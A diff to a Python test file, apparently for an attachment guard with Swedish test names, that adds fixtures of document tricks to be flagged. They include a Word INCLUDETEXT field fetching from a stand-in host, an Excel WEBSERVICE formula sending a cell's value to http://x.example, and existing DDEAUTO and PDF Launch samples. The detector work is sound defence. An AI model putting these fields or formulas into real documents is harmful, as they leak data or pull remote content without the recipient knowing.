@@ -9,7 +9,7 @@ from pypdf.generic import DictionaryObject, NameObject
 
 from build_scripts.foreign import LARGEST_FILE, LARGEST_PART
 from build_scripts.guard.readers.by_ending import extract
-from build_scripts.guard.readers.extracted import EMBEDDED, PROGRAM
+from build_scripts.guard.readers.extracted import EMBEDDED, FETCHING, PROGRAM
 from macros.guard.official import Official
 from macros.guard.recognise import recognise
 from tests.guard import documents as made
@@ -84,6 +84,21 @@ FAULTS = {
         made.word(f'<w:p xmlns:w="{made.W}"><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>'),
         ("oläst-bilaga", PROGRAM),
     ),
+    "fält som hämtar en text": (
+        "a.docx",
+        made.word('<w:r><w:instrText>INCLUDETEXT "http://x.example/a.docx"</w:instrText></w:r>'),
+        ("oläst-bilaga", FETCHING),
+    ),
+    "formel som hämtar": (
+        "a.xlsx",
+        made.excel({"A1": '=_xlfn.WEBSERVICE("http://x.example/?a="&B1)'}),
+        ("oläst-bilaga", FETCHING),
+    ),
+    "binär arbetsbok": (
+        "a.xlsx",
+        made.package({"[Content_Types].xml": "<a/>", "xl/workbook.bin": b"x"}),
+        ("oläst-bilaga", "dess celler kan bara läsas av Excel. Spara den som .xlsx"),
+    ),
     "skript i OpenDocument": (
         "a.odt",
         made.open_document('<s:event-listener xmlns:s="x"/>'),
@@ -97,7 +112,7 @@ FAULTS = {
                 "Target='http://x.example/a.png' TargetMode='External'/></a>"
             }
         ),
-        ("oläst-bilaga", "den hämtar en mall eller en annan del från en annan plats"),
+        ("oläst-bilaga", FETCHING),
     ),
     "skript i PDF": ("a.pdf", made.acting_pdf("JavaScript"), ("oläst-bilaga", PROGRAM)),
     "program som startas av PDF": ("a.pdf", made.acting_pdf("Launch"), ("oläst-bilaga", PROGRAM)),
@@ -115,7 +130,7 @@ FAULTS = {
                 'Target="http://x.example/m.dotm" TargetMode="External"/></a>'
             }
         ),
-        ("oläst-bilaga", "den hämtar en mall eller en annan del från en annan plats"),
+        ("oläst-bilaga", FETCHING),
     ),
     "webbsida med annat namn": (
         "a.txt",
